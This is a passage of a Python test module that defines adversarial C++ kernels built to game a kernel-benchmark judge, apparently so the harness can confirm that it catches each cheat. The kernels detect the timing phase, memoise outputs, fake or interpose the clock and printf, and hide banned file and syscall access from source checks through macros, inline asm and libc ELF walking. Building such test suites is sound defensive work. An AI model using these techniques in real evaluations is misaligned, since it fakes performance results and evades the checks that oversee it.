"""Adversarial kernels, one or more per attack class of issue 11 and some beyond it.

Each kernel games the judge in one way. Where it has to pass verification it computes the op honestly, so a test shows
the judge catching the cheat itself, not a wrong answer. `@DIR@` in a kernel is replaced by a per-test directory:
kernels that escape write marker files there, so a marker found after the verdict proves the escape. Children that
should not survive name themselves `mkbadv-...` (prctl), so survivors can be found by name.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

CPP = "source/backend/cpu/MKBCandidate.cpp"
GEOMETRY_MATMUL = "source/geometry/GeometryBatchMatMul.cpp"
COMBINER = "tools/converter/source/optimizer/onnxextra/MKBCombiner.cpp"
SURVIVOR_PREFIX = "mkbadv"
PLANTED_HEADER = "src/source/cmath"
VICTIM_WORKSPACE = "mkbvictim0"  # a sibling of the suite's workspace: another session's, with its placed kernel  # class 13: a header planted in the workspace shadows <cmath> for later builds
DECOY_NAME = "decoy_secret.txt"  # class 10: a host file outside MNN's tree

# Verdict kinds that classify a cheat honestly (the cheat itself is caught)
CAUGHT = frozenset({"rejected", "wrong_output", "runtime_error", "compile_error", "timeout"})
REJECTED = frozenset({"rejected"})


@dataclass(frozen=True)
class Attack:
    name: str
    klass: str  # the attack class of issue 11 ("1".."15") or "extra"
    task: str
    text: str  # the kernel, with @DIR@ for the marker directory
    mechanism: str  # how it games the judge
    allowed: frozenset[str] = CAUGHT  # verdict kinds that classify it honestly
    # "correct" is honest too when its speedup stays at most this (what the honest computation inside achieves)
    honest_cap: float | None = None
    path: str = CPP
    disturbs: bool = False  # aims at later evaluations: an honest kernel must still be correct after it
    secret: bool = False  # runs with a decoy provider key in the environment, which must not come back
    decoy: bool = False  # a decoy host file is planted next to the markers, whose text must not come back
    leaves: str = ""  # a glob (device work dir) of files it leaves for later processes: must be gone after the verdict
    victim: bool = False  # a sibling workspace holding another session's placed kernel is planted for it to steal
    through_on_main: bool = False  # the current main still lets it through (a strict xfail until defended)

    def files(self, marker_dir: Path) -> dict[str, str]:
        return {self.path: self.text.replace("@DIR@", str(marker_dir))}


# ------------------------------------------------------------------ scaffolding (the attacks' own code)

MACROS = r"""
#define MKB_CAT(a, b) a##b
#define MKB_XCAT(a, b) MKB_CAT(a, b)
#define MKB_STR(x) #x
#define MKB_XSTR(x) MKB_STR(x)
"""

# libc's fopen reached from a macro body: tree-sitter leaves a #define's body as opaque text
HIDDEN_OPEN = r"""
#define MKB_OPEN(path, mode) fopen(path, mode)
"""

DIRENT = "#define MKB_DIRENT <dirent.h>\n#include MKB_DIRENT\n"  # opendir/readdir: names no list bans

# the process's arguments, which glibc hands to every ELF constructor of a shared library
KEEP_ARGS = r"""
static int gMkbArgc = 0;
static char** gMkbArgv = nullptr;
__attribute__((constructor)) static void mkbKeepArgs(int argc, char** argv, char**) {
    gMkbArgc = argc;
    gMkbArgv = argv;
}
static std::string mkbArg(int i) { return i < gMkbArgc && gMkbArgv ? std::string(gMkbArgv[i]) : std::string(); }
static std::vector<std::string> mkbSplit(const std::string& s) {
    std::vector<std::string> parts;
    size_t start = 0;
    while (start <= s.size()) {
        size_t comma = s.find(',', start);
        if (comma == std::string::npos) comma = s.size();
        if (comma > start) parts.push_back(s.substr(start, comma - start));
        start = comma + 1;
    }
    return parts;
}
"""

# where the first tensor's data starts in an MKBT file (the harness's tensor format), and reading it
MKBT = r"""
static long mkbDataOffset(FILE* f, unsigned long long* nbytes) {
    unsigned int head[4];  // magic, version, count, name length
    if (fread(head, 4, 4, f) != 4) return -1;
    long off = 16 + (long)head[3];
    unsigned int typeAndRank[2];
    if (fseek(f, off, SEEK_SET) != 0 || fread(typeAndRank, 4, 2, f) != 2) return -1;
    off += 8 + 8L * typeAndRank[1];
    if (fseek(f, off, SEEK_SET) != 0 || fread(nbytes, 8, 1, f) != 1) return -1;
    return off + 8;
}
static bool mkbReadFloats(const std::string& path, std::vector<float>& out) {
    FILE* f = MKB_OPEN(path.c_str(), "rb");
    if (!f) return false;
    unsigned long long nbytes = 0;
    long off = mkbDataOffset(f, &nbytes);
    bool ok = off > 0 && fseek(f, off, SEEK_SET) == 0;
    if (ok) { out.resize(nbytes / 4); ok = fread(out.data(), 4, out.size(), f) == out.size(); }
    fclose(f);
    return ok;
}
"""

UNARY_HEAD = r"""#include "backend/cpu/CPUBackend.hpp"
#include "core/Execution.hpp"
#include "core/Macro.h"
#include <cmath>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>
"""

UNARY_CLASS = r"""
namespace MNN {
class MkbAdv : public Execution {
public:
    explicit MkbAdv(Backend* backend) : Execution(backend) {}
    ErrorCode onExecute(const std::vector<Tensor*>& inputs, const std::vector<Tensor*>& outputs) override {
        const float* src = inputs[0]->host<float>();
        float* dst = outputs[0]->host<float>();
        const int n = inputs[0]->elementSize();
        (void)src; (void)dst; (void)n;
@BODY@
        return NO_ERROR;
    }
};

class MkbAdvCreator : public CPUBackend::Creator {
public:
    Execution* onCreate(const std::vector<Tensor*>& inputs, const std::vector<Tensor*>& outputs, const MNN::Op* op,
                        Backend* backend) const override {
        return @CREATE@;
    }
};

REGISTER_CPU_OP_CREATOR(MkbAdvCreator, OpType_@OPTYPE@);
} // namespace MNN
"""

# the honest abs loop measures 1.6-1.7x against MNN's own Abs (which does not vectorise): "correct" up to this is honest
ABS_HONEST_CAP = 2.5
HONEST_ABS = "        for (int i = 0; i < n; ++i) dst[i] = std::fabs(src[i]);\n"
HONEST_RELU = "        for (int i = 0; i < n; ++i) dst[i] = src[i] > 0.0f ? src[i] : 0.0f;\n"
SOFTMAX_ROWS = r"""            const float* x = src + (size_t)row * width;
            float* y = dst + (size_t)row * width;
            float top = x[0];
            for (int i = 1; i < width; ++i) top = x[i] > top ? x[i] : top;
            float sum = 0.0f;
            for (int i = 0; i < width; ++i) { y[i] = std::exp(x[i] - top); sum += y[i]; }
            for (int i = 0; i < width; ++i) y[i] /= sum;
"""  # one softmax row (src, dst, width, row in scope)
HONEST_SOFTMAX = ("        const int width = inputs[0]->length(inputs[0]->dimensions() - 1);\n"
                  "        for (int row = 0; row < n / width; ++row) {\n" + SOFTMAX_ROWS + "        }\n")

def unary(body: str, prelude: str = "", *, head: str = UNARY_HEAD, create: str = "new MkbAdv(backend)", op_type: str = "UnaryOp") -> str:
    """A CPU kernel for an elementwise task (src, dst, n in scope) with attack code before the namespace."""
    return head + MACROS + prelude + UNARY_CLASS.replace("@BODY@", body).replace("@CREATE@", create).replace("@OPTYPE@", op_type)


def honest(task: str) -> dict[str, str]:
    """An honest kernel for a task the attacks use (checked before and after them)."""
    if task == "abs":
        return {CPP: unary(HONEST_ABS)}
    if task == "relu":
        return {CPP: unary(HONEST_RELU, op_type="ReLU")}
    if task == "softmax_lastdim":
        return {CPP: unary(HONEST_SOFTMAX, op_type="Softmax")}
    raise KeyError(task)


def _marker(name: str) -> str:
    """Statement writing a marker file @DIR@/name with a hidden fopen (once per process)."""
    return (f'        {{ static bool mkbMarked = false; if (!mkbMarked) {{ mkbMarked = true; FILE* m = MKB_OPEN("@DIR@/{name}", "w"); '
            f'if (m) {{ fputs("{name}", m); fclose(m); }} }} }}\n')  # fmt: skip


ATTACKS: list[Attack] = []


def attack(*args, **kw) -> Attack:
    made = Attack(*args, **kw)
    ATTACKS.append(made)
    return made


# ------------------------------------------------------------------ class 1: tell timing from verification

attack(
    "argv_constructor", "1", "abs",
    unary("        if (gMkbTimed) return NO_ERROR;  // timed: skip the work\n" + HONEST_ABS, KEEP_ARGS + r"""
static bool gMkbTimed = false;
__attribute__((constructor)) static void mkbSeeTiming(int argc, char** argv, char**) {
    for (int i = 0; i < argc; ++i) if (strcmp(argv[i], "--iters") == 0) gMkbTimed = true;
}
"""),
    "an ELF constructor gets the runner's argv; with --iters present (the timing phase) onExecute does nothing",
    honest_cap=ABS_HONEST_CAP,
)
attack(
    "execution_counter", "1", "abs",
    unary("        static long calls = 0;\n        if (++calls > 12) return NO_ERROR;  // verification runs 5 seeds x 2\n" + HONEST_ABS),
    "verification runs 10 executions per process, timing 2+50: after 12 calls onExecute does nothing",
    honest_cap=ABS_HONEST_CAP,
)
attack(
    "same_input_content", "1", "abs",
    unary(r"""        static float last[8];
        static bool have = false;
        float now[8];
        for (int k = 0; k < 8; ++k) now[k] = src[(size_t)k * (n / 8)];
        if (have && memcmp(now, last, sizeof(now)) == 0) return NO_ERROR;  // same input as last run: output is still there
        memcpy(last, now, sizeof(now));
        have = true;
""" + HONEST_ABS),
    "a sample of the input equal to the last run's means a repeated (timed) run: skip, the output buffer still holds it",
    honest_cap=ABS_HONEST_CAP,
)
attack(
    "proc_cmdline", "1", "abs",
    unary("        if (mkbTimed()) return NO_ERROR;\n" + HONEST_ABS, HIDDEN_OPEN + r"""
static bool mkbTimed() {
    static int timed = -1;
    if (timed < 0) {
        timed = 0;
        FILE* f = MKB_OPEN("/proc/self/cmdline", "rb");
        if (f) {
            char buf[4096];
            size_t got = fread(buf, 1, sizeof(buf) - 1, f);
            fclose(f);
            for (size_t i = 0; i + 7 <= got; ++i) if (memcmp(buf + i, "--iters", 7) == 0) timed = 1;
        }
    }
    return timed == 1;
}
"""),
    "reads /proc/self/cmdline (fopen hidden in a macro body) and skips the work when --iters is there",
    honest_cap=ABS_HONEST_CAP,
)
attack(
    "reads_plan_from_memory", "1", "abs",
    unary(r"""        static std::vector<char> keep = mkbKeptRuns();
        static size_t run = 0;
        size_t now = run++;
        if (!keep.empty() && now < keep.size() && !keep[now]) return NO_ERROR;  // an unchecked run: skip it
""" + HONEST_ABS, HIDDEN_OPEN + r"""
// The runner read its plan from stdin; the text ("mkbplan 1 ... run SET [keep]") is still in its heap (stdio's
// buffer). Its `run` lines say which runs' outputs are kept for checking: compute those only.
static std::vector<char> mkbParsePlan(const char* text, const char* end) {
    std::vector<char> keep;
    for (const char* line = text; line < end && *line;) {
        const char* eol = line;
        while (eol < end && *eol && *eol != '\n') ++eol;
        if (eol - line >= 4 && memcmp(line, "run ", 4) == 0) {
            std::string l(line, eol);
            keep.push_back(l.find(" keep") != std::string::npos);
        }
        line = eol + 1;
    }
    return keep;
}
static std::vector<char> mkbKeptRuns() {
    FILE* maps = MKB_OPEN("/proc/self/maps", "r");
    char line[1024];
    std::vector<char> keep;
    while (maps && keep.empty() && fgets(line, sizeof(line), maps)) {
        unsigned long from = 0, to = 0;
        char perms[8] = {0};
        if (sscanf(line, "%lx-%lx %7s", &from, &to, perms) != 3 || perms[0] != 'r' || perms[1] != 'w') continue;
        if (strchr(line, '/') != nullptr || strstr(line, "[stack]") || strstr(line, "[vvar]")) continue;
        const char* at = (const char*)from;
        const char* end = (const char*)to;
        for (const char* p = at; p + 10 < end && keep.empty(); ++p)
            if (*p == 'm' && memcmp(p, "mkbplan 1\n", 10) == 0) keep = mkbParsePlan(p, end);
    }
    if (maps) fclose(maps);
    return keep;
}
"""),
    "finds the plan the runner read from stdin in its heap (stdio's buffer) and computes only the runs marked `keep`: "
    "the randomly sampled checks are known in advance, and the unchecked timed runs cost nothing",
    honest_cap=ABS_HONEST_CAP,
)
attack(
    "init_array_argv", "extra", "abs",
    unary("        if (gMkbTimed) return NO_ERROR;\n" + HONEST_ABS, r"""
static bool gMkbTimed = false;
static void mkbSeeTiming(int argc, char** argv, char**) {
    for (int i = 0; i < argc; ++i) if (strcmp(argv[i], "--iters") == 0) gMkbTimed = true;
}
__attribute__((section(".init_array"), used)) static void (*mkbInitEntry)(int, char**, char**) = &mkbSeeTiming;
"""),
    "a function pointer placed in .init_array by hand (no constructor attribute) sees argv and flags the timing phase",
    honest_cap=ABS_HONEST_CAP,
)
attack(
    "thread_local_counter", "extra", "abs",
    unary("        static thread_local long calls = 0;\n        if (++calls > 12) return NO_ERROR;\n" + HONEST_ABS),
    "the execution counter kept in a thread_local",
    honest_cap=ABS_HONEST_CAP,
)

# ------------------------------------------------------------------ class 2: memoise across runs

attack(
    "memo_by_address", "2", "abs",
    unary(r"""        static const float* lastSrc = nullptr;
        static float lastSample[4];
        float sample[4] = {src[0], src[n / 3], src[n / 2], src[n - 1]};
        if (src == lastSrc && memcmp(sample, lastSample, sizeof(sample)) == 0) return NO_ERROR;
        lastSrc = src;
        memcpy(lastSample, sample, sizeof(sample));
""" + HONEST_ABS),
    "keyed on the input's address and four sampled values: a hit returns at once, relying on the output buffer",
    honest_cap=ABS_HONEST_CAP,
)
attack(
    "memo_table_copy", "2", "softmax_lastdim",
    unary(r"""        static std::vector<std::pair<std::vector<float>, std::vector<float>>> memo;  // sampled input -> output
        std::vector<float> key(16);
        for (int k = 0; k < 16; ++k) key[k] = src[(size_t)k * (n / 16) + k];
        for (auto& entry : memo)
            if (entry.first == key) { memcpy(dst, entry.second.data(), (size_t)n * sizeof(float)); return NO_ERROR; }
""" + HONEST_SOFTMAX + r"""        memo.emplace_back(key, std::vector<float>(dst, dst + n));
""", op_type="Softmax"),
    "a table from 16 sampled input values to the whole output: a repeated input costs one memcpy instead of a softmax",
    honest_cap=1.2,
)

attack(
    "memo_on_disk", "2", "softmax_lastdim",
    unary(r"""        unsigned long long key = 1469598103934665603ULL;  // FNV-1a over 16 sampled input values
        for (int k = 0; k < 16; ++k) {
            unsigned int bits;
            memcpy(&bits, src + (size_t)k * (n / 16) + k, 4);
            key = (key ^ bits) * 1099511628211ULL;
        }
        char name[64];
        snprintf(name, sizeof(name), ".mkbmemo_%016llx", key);
        FILE* memo = MKB_OPEN(name, "rb");  // in the work dir: it outlives the process, and the input sets come back
        if (memo) {
            size_t got = fread(dst, sizeof(float), (size_t)n, memo);
            fclose(memo);
            if (got == (size_t)n) return NO_ERROR;
        }
""" + HONEST_SOFTMAX + r"""        memo = MKB_OPEN(name, "wb");
        if (memo) { fwrite(dst, sizeof(float), (size_t)n, memo); fclose(memo); }
""", HIDDEN_OPEN, op_type="Softmax"),
    "a memo across processes: each output is written to a file in the work dir named by a hash of sampled input "
    "values; the evaluation's input sets (fixed seeds and pool alike) come back in later processes, which read it",
    honest_cap=1.2, leaves=".mkbmemo_*",
)

# ------------------------------------------------------------------ class 3: interpose the runner's clock

FAKE_NOW = "    static long fakeNs = 0;\n    return fakeNs += 100;  // every reading 0.1 us after the last\n"
attack(
    "steady_clock_mangled", "3", "abs",
    unary(HONEST_ABS, 'extern "C" __attribute__((visibility("default"))) long _ZNSt6chrono3_V212steady_clock3nowEv() {\n'
          + FAKE_NOW + "}\n"),
    "defines std::chrono::steady_clock::now under its mangled name, exported from libMNN (loaded before libstdc++)",
    honest_cap=ABS_HONEST_CAP,
)
attack(
    "clock_gettime_pasted", "3", "abs",
    unary(HONEST_ABS, r"""
extern "C" __attribute__((visibility("default"))) int MKB_CAT(clock_, gettime)(int, struct timespec* ts) noexcept {
    static long fakeNs = 0;  // struct timespec comes with <memory> (through pthread.h)
    fakeNs += 100;
    ts->tv_sec = fakeNs / 1000000000;
    ts->tv_nsec = fakeNs % 1000000000;
    return 0;
}
"""),
    "defines clock_gettime (name made by token pasting), which libstdc++'s steady_clock::now calls through the PLT",
    honest_cap=ABS_HONEST_CAP,
)
attack(
    "asm_label_pasted", "extra", "abs",
    unary(HONEST_ABS, r"""
#define MKB_LABEL(name) MKB_CAT(__as, m__)(name)
extern "C" __attribute__((visibility("default"))) long mkbNow() MKB_LABEL("_ZNSt6chrono3_V212steady_clock3nowEv");
extern "C" long mkbNow() {
""" + FAKE_NOW + "}\n"),
    "an asm label (the __asm__ keyword made by token pasting) gives a harmless-looking function the clock's symbol",
    honest_cap=ABS_HONEST_CAP,
)
attack(
    "pragma_redefine_extname", "extra", "abs",
    unary(HONEST_ABS, r"""
#pragma redefine_extname mkbClock clock_gettime
extern "C" int mkbClock(int, long* ts);
extern "C" __attribute__((visibility("default"))) int mkbClock(int, long* ts) {
    static long fakeNs = 0;
    fakeNs += 1000;
    ts[0] = fakeNs / 1000000000;
    ts[1] = fakeNs % 1000000000;
    return 0;
}
"""),
    "#pragma redefine_extname renames an innocent function to clock_gettime at the symbol level",
    honest_cap=ABS_HONEST_CAP,
)
attack(
    "rdtsc_scaled_clock", "extra", "abs",
    unary(HONEST_ABS, r"""
#define MKB_LABEL(name) MKB_CAT(__as, m__)(name)
extern "C" __attribute__((visibility("default"))) long mkbNow() MKB_LABEL("_ZNSt6chrono3_V212steady_clock3nowEv");
extern "C" long mkbNow() {
    return (long)(__builtin_ia32_rdtsc() / 16);  // a clock running ~5x slow: a plausible speedup, not an absurd one
}
"""),
    "the runner's clock replaced by the TSC (__builtin_ia32_rdtsc) scaled down, for a plausible rather than absurd speedup",
    honest_cap=ABS_HONEST_CAP,
)
attack(
    "vdso_pointer_overwrite", "3", "abs",
    unary("        mkbHijackClock();\n" + HONEST_ABS, HIDDEN_OPEN + "#define MKB_ELF <elf.h>\n#include MKB_ELF\n" + r"""
extern "C" unsigned long getauxval(unsigned long) noexcept;
extern "C" long readlink(const char*, char*, unsigned long);
typedef int (*MkbClockFn)(int, struct timespec*);
static MkbClockFn gMkbRealClock = nullptr;
static long gMkbBase = -1;
// the real clock, slowed 2x from the first reading on: a plausible speedup (under any 'suspicious' bound)
static int mkbSlowClock(int clk, struct timespec* ts) {
    int ret = gMkbRealClock(clk, ts);
    long ns = ts->tv_sec * 1000000000L + ts->tv_nsec;
    if (gMkbBase < 0) gMkbBase = ns;
    ns = gMkbBase + (ns - gMkbBase) / 2;
    ts->tv_sec = ns / 1000000000L;
    ts->tv_nsec = ns % 1000000000L;
    return ret;
}
// The vDSO's clock_gettime, found the way the runner finds it (auxiliary vector, the vDSO's own symbol table)
static uintptr_t mkbVdsoClock() {
    uintptr_t base = getauxval(33 /* AT_SYSINFO_EHDR */);
    if (!base) return 0;
    const Elf64_Ehdr* eh = (const Elf64_Ehdr*)base;
    const Elf64_Phdr* ph = (const Elf64_Phdr*)(base + eh->e_phoff);
    uintptr_t load = 0;
    const Elf64_Dyn* dyn = nullptr;
    for (int i = 0; i < eh->e_phnum; ++i) {
        if (ph[i].p_type == PT_LOAD && load == 0) load = base + ph[i].p_offset - ph[i].p_vaddr;
        if (ph[i].p_type == PT_DYNAMIC) dyn = (const Elf64_Dyn*)(base + ph[i].p_offset);
    }
    const Elf64_Sym* syms = nullptr;
    const char* strs = nullptr;
    for (; dyn && dyn->d_tag != DT_NULL; ++dyn) {
        if (dyn->d_tag == DT_SYMTAB) syms = (const Elf64_Sym*)(load + dyn->d_un.d_ptr);
        if (dyn->d_tag == DT_STRTAB) strs = (const char*)(load + dyn->d_un.d_ptr);
    }
    for (const Elf64_Sym* s = syms; s && (const char*)(s + 1) <= strs; ++s)
        if (s->st_value && strcmp(strs + s->st_name, "__vdso_clock_gettime") == 0) return load + s->st_value;
    return 0;
}
// ... and replaced in the runner's own writable memory (its .data/.bss), wherever a pointer to it is kept
static void mkbHijackClock() {
    static bool done = false;
    if (done) return;
    done = true;
    uintptr_t real = mkbVdsoClock();
    char exe[512] = {0};
    if (!real || readlink("/proc/self/exe", exe, sizeof(exe) - 1) <= 0) return;
    gMkbRealClock = (MkbClockFn)real;
    FILE* maps = MKB_OPEN("/proc/self/maps", "r");
    char line[1024];
    bool afterExe = false;
    while (maps && fgets(line, sizeof(line), maps)) {
        unsigned long from = 0, to = 0;
        char perms[8] = {0};
        if (sscanf(line, "%lx-%lx %7s", &from, &to, perms) != 3) continue;
        bool exeMap = strstr(line, exe) != nullptr;
        bool bss = afterExe && strchr(line, '/') == nullptr && strchr(line, '[') == nullptr;
        afterExe = exeMap;
        if (!(exeMap || bss) || perms[1] != 'w') continue;
        for (uintptr_t* p = (uintptr_t*)from; p < (uintptr_t*)to; ++p)
            if (*p == real) *p = (uintptr_t)&mkbSlowClock;
    }
    if (maps) fclose(maps);
}
"""),
    "the runner's private vDSO clock pointer, found by value in its .data/.bss (the vDSO's clock_gettime looked up "
    "through getauxval like the runner does), is overwritten with a clock running 2x slow",
    honest_cap=ABS_HONEST_CAP,
)
attack(
    "printf_interposed", "extra", "abs",
    unary(HONEST_ABS, r"""
extern "C" __attribute__((visibility("default"))) int printf(const char* __restrict format, ...) {
    __builtin_va_list args;  // no <cstdarg> needed
    __builtin_va_start(args, format);
    int written;
    if (strcmp(format, "%s%.6f") == 0) {  // the runner printing one timing: report a fifth of it
        const char* sep = __builtin_va_arg(args, const char*);
        double ms = __builtin_va_arg(args, double);
        written = fprintf(stdout, "%s%.6f", sep, ms / 5.0);
    } else {
        written = vfprintf(stdout, format, args);
    }
    __builtin_va_end(args);
    return written;
}
"""),
    "interposes printf (a libc name no check bans): the runner's timing lines are printed as a fifth of what it measured",
    honest_cap=ABS_HONEST_CAP,
)

# ------------------------------------------------------------------ class 4: hide banned calls from the source check

attack(
    "macro_body_fopen", "4", "abs", unary(_marker("4_macro_body") + HONEST_ABS, HIDDEN_OPEN),
    "fopen inside a #define body, which the tree-sitter check leaves as opaque text", allowed=REJECTED,
)
attack(
    "computed_include", "4", "abs",
    unary(r"""        { static bool done = false; if (!done) { done = true; std::basic_ofstream<char> out("@DIR@/4_computed_include"); out << "x"; } }
""" + HONEST_ABS, "#define MKB_STREAMS <fstream>\n#include MKB_STREAMS\n"),
    "#include MACRO brings in <fstream>; std::basic_ofstream opens a file without any banned name", allowed=REJECTED,
)
attack(
    "token_pasting", "4", "abs",
    unary(r"""        { static bool done = false; if (!done) { done = true; FILE* m = MKB_CAT(fop, en)("@DIR@/4_token_pasting", "w"); if (m) { fputs("x", m); fclose(m); } } }
""" + HONEST_ABS),
    "fopen spelled by token pasting (fop ## en)", allowed=REJECTED,
)
attack(
    "raw_syscall", "4", "abs",
    unary(r"""        { static bool done = false; if (!done) { done = true;
            long fd = syscall(257 /* openat */, -100 /* AT_FDCWD */, "@DIR@/4_raw_syscall", 0101 /* O_WRONLY|O_CREAT */, 0644);
            if (fd >= 0) { syscall(1 /* write */, fd, "x", 1); syscall(3 /* close */, fd); } } }
""" + HONEST_ABS, 'extern "C" long syscall(long number, ...) noexcept;\n'),
    "openat/write/close through syscall(2) with the numbers written out, no header needed", allowed=REJECTED,
)
attack(
    "digraph_include", "extra", "abs",
    unary(r"""        { static bool done = false; if (!done) { done = true;
            long fd = syscall(SYS_openat, AT_FDCWD, "@DIR@/x_digraph_include", O_WRONLY | O_CREAT, 0644);
            if (fd >= 0) { syscall(SYS_write, fd, "x", 1); syscall(SYS_close, fd); } } }
""" + HONEST_ABS, "%:include <sys/syscall.h>\n%:include <unistd.h>\n%:include <fcntl.h>\n"),
    "%:include (a digraph), which an #include pattern does not see, brings in the system call headers", allowed=REJECTED,
)
attack(
    "pragma_string_extname", "extra", "abs",
    unary(r"""        { static bool done = false; if (!done) { done = true; FILE* m = mkbOpen("@DIR@/x_pragma_string", "w"); if (m) { fputs("x", m); fclose(m); } } }
""" + HONEST_ABS, '_Pragma("redefine_extname mkbOpen fopen")\nextern "C" FILE* mkbOpen(const char*, const char*);\n'),
    "_Pragma(\"redefine_extname mkbOpen fopen\"): the banned name only inside a string literal", allowed=REJECTED,
)
attack(
    "asm_label_fopen", "extra", "abs",
    unary(r"""        { static bool done = false; if (!done) { done = true; FILE* m = mkbOpen("@DIR@/x_asm_label_fopen", "w"); if (m) { fputs("x", m); fclose(m); } } }
""" + HONEST_ABS, '#define MKB_LABEL(name) MKB_CAT(__as, m__)(name)\nextern "C" FILE* mkbOpen(const char*, const char*) MKB_LABEL("fopen");\n'),
    "extern \"C\" redeclaration of fopen under another name with an asm label (keyword pasted)", allowed=REJECTED,
)

attack(
    "inline_asm_syscall", "4", "abs",
    unary(r"""        { static bool done = false; if (!done) { done = true;
            long fd = mkbSys(257 /* openat */, -100, (long)"@DIR@/4_inline_asm_syscall", 0101, 0644);
            if (fd >= 0) { mkbSys(1 /* write */, fd, (long)"x", 1, 0); mkbSys(3 /* close */, fd, 0, 0, 0); } } }
""" + HONEST_ABS, r"""
#define MKB_ASM MKB_CAT(__as, m__)
static long mkbSys(long nr, long a, long b, long c, long d) {
    long ret;
    register long r10 MKB_ASM("r10") = d;
    MKB_ASM volatile("syscall" : "=a"(ret) : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return ret;
}
"""),
    "the syscall instruction in an asm statement (keyword pasted): no symbol at all in the object", allowed=REJECTED,
)
attack(
    "elf_walk_resolver", "extra", "abs",
    unary(r"""        { static bool done = false; if (!done) { done = true;
            typedef void* (*Open)(const char*, const char*);
            typedef int (*Puts)(const char*, void*);
            typedef int (*Close)(void*);
            Open open_ = (Open)mkbLibc("fopen");
            Puts puts_ = (Puts)mkbLibc("fputs");
            Close close_ = (Close)mkbLibc("fclose");
            void* m = open_ && puts_ && close_ ? open_("@DIR@/x_elf_walk_resolver", "w") : nullptr;
            if (m) { puts_("x", m); close_(m); } } }
""" + HONEST_ABS, "#define MKB_ELF <elf.h>\n#include MKB_ELF\n" + r"""
// libc's own symbol table, found from memcpy's address (a name every allowlist admits): walk down to libc's ELF
// header, read its dynamic section, look names up. No libc symbol but memcpy is referenced.
static void* mkbLibc(const char* name) {
    uintptr_t page = (uintptr_t)(void*)&memcpy & ~(uintptr_t)4095;
    for (int i = 0; i < 1 << 16 && memcmp((const void*)page, "\177ELF", 4) != 0; ++i) page -= 4096;
    const Elf64_Ehdr* eh = (const Elf64_Ehdr*)page;
    if (memcmp(eh->e_ident, "\177ELF", 4) != 0) return nullptr;
    const Elf64_Phdr* ph = (const Elf64_Phdr*)(page + eh->e_phoff);
    const Elf64_Dyn* dyn = nullptr;
    for (int i = 0; i < eh->e_phnum; ++i) if (ph[i].p_type == PT_DYNAMIC) dyn = (const Elf64_Dyn*)(page + ph[i].p_vaddr);
    const Elf64_Sym* syms = nullptr;
    const char* strs = nullptr;
    for (; dyn && dyn->d_tag != DT_NULL; ++dyn) {
        uintptr_t at = dyn->d_un.d_ptr < page ? page + dyn->d_un.d_ptr : dyn->d_un.d_ptr;
        if (dyn->d_tag == DT_SYMTAB) syms = (const Elf64_Sym*)at;
        if (dyn->d_tag == DT_STRTAB) strs = (const char*)at;
    }
    if (!syms || !strs || (const char*)syms >= strs) return nullptr;
    for (const Elf64_Sym* s = syms; (const char*)(s + 1) <= strs; ++s)
        if (s->st_value && ELF64_ST_TYPE(s->st_info) == STT_FUNC && strcmp(strs + s->st_name, name) == 0)
            return (void*)(page + s->st_value);
    return nullptr;
}
"""),
    "resolves fopen/fputs/fclose itself from libc's in-memory ELF tables, starting from memcpy's address: the object "
    "references memcpy only, so a symbol allowlist passes it; only containment stops the write",
    allowed=frozenset({"rejected", "runtime_error"}), honest_cap=ABS_HONEST_CAP,
)
attack(
    "ifunc_resolver_argv", "extra", "abs",
    unary("        mkbAbs(dst, src, n);\n", HIDDEN_OPEN + r"""
typedef void (*MkbAbsFn)(float*, const float*, int);
static void mkbAbsHonest(float* dst, const float* src, int n) { for (int i = 0; i < n; ++i) dst[i] = std::fabs(src[i]); }
static void mkbAbsNothing(float*, const float*, int) {}
// An IFUNC resolver runs while the dynamic loader relocates libMNN.so: before any constructor, and it is not one
extern "C" MkbAbsFn mkbResolveAbs() {
    FILE* f = MKB_OPEN("/proc/self/cmdline", "rb");
    char buf[4096];
    size_t got = f ? fread(buf, 1, sizeof(buf), f) : 0;
    if (f) fclose(f);
    for (size_t i = 0; i + 7 <= got; ++i) if (memcmp(buf + i, "--iters", 7) == 0) return mkbAbsNothing;
    return mkbAbsHonest;
}
extern "C" void mkbAbs(float*, const float*, int) __attribute__((ifunc("mkbResolveAbs")));
"""),
    "an IFUNC resolver (run by the loader, not a constructor) reads /proc/self/cmdline and binds the kernel's loop to an "
    "empty function in the timing phase",
    honest_cap=ABS_HONEST_CAP,
)

# Every C library function reached without naming it: libc's dynamic symbol table read in memory, starting from
# memcpy's address (a name every allowlist admits). The object references memcpy, strcmp and memcmp only; what
# this reaches (files, processes, threads, clocks) only containment can stop.
LIBC_WALK = r"""
// ELF's layouts written out (no system header)
struct MkbEhdr { unsigned char ident[16]; uint16_t type, machine; uint32_t version; uint64_t entry, phoff, shoff;
                 uint32_t flags; uint16_t ehsize, phentsize, phnum, shentsize, shnum, shstrndx; };
struct MkbPhdr { uint32_t type, flags; uint64_t offset, vaddr, paddr, filesz, memsz, align; };
struct MkbDyn { int64_t tag; uint64_t val; };
struct MkbSym { uint32_t name; unsigned char info, other; uint16_t shndx; uint64_t value, size; };
static void* mkbLibc(const char* reversed) {  // names spelled backwards: no function name in any string literal
    char name[64];
    size_t len = strlen(reversed);
    for (size_t i = 0; i < len && i < 63; ++i) name[i] = reversed[len - 1 - i];
    name[len < 63 ? len : 63] = 0;
    uintptr_t page = (uintptr_t)(void*)&memcpy & ~(uintptr_t)4095;
    for (int i = 0; i < 1 << 16 && memcmp((const void*)page, "\177ELF", 4) != 0; ++i) page -= 4096;
    const MkbEhdr* eh = (const MkbEhdr*)page;
    if (memcmp(eh->ident, "\177ELF", 4) != 0) return nullptr;
    const MkbPhdr* ph = (const MkbPhdr*)(page + eh->phoff);
    const MkbDyn* dyn = nullptr;
    for (int i = 0; i < eh->phnum; ++i) if (ph[i].type == 2 /* PT_DYNAMIC */) dyn = (const MkbDyn*)(page + ph[i].vaddr);
    const MkbSym* syms = nullptr;
    const char* strs = nullptr;
    for (; dyn && dyn->tag != 0; ++dyn) {
        uintptr_t at = dyn->val < page ? page + dyn->val : dyn->val;
        if (dyn->tag == 6 /* DT_SYMTAB */) syms = (const MkbSym*)at;
        if (dyn->tag == 5 /* DT_STRTAB */) strs = (const char*)at;
    }
    if (!syms || !strs || (const char*)syms >= strs) return nullptr;
    for (const MkbSym* s = syms; (const char*)(s + 1) <= strs; ++s)
        if (s->value && strcmp(strs + s->name, name) == 0) return (void*)(page + s->value);
    return nullptr;
}
#define MKB_LIBC(type, name) ((type)mkbLibc(name))
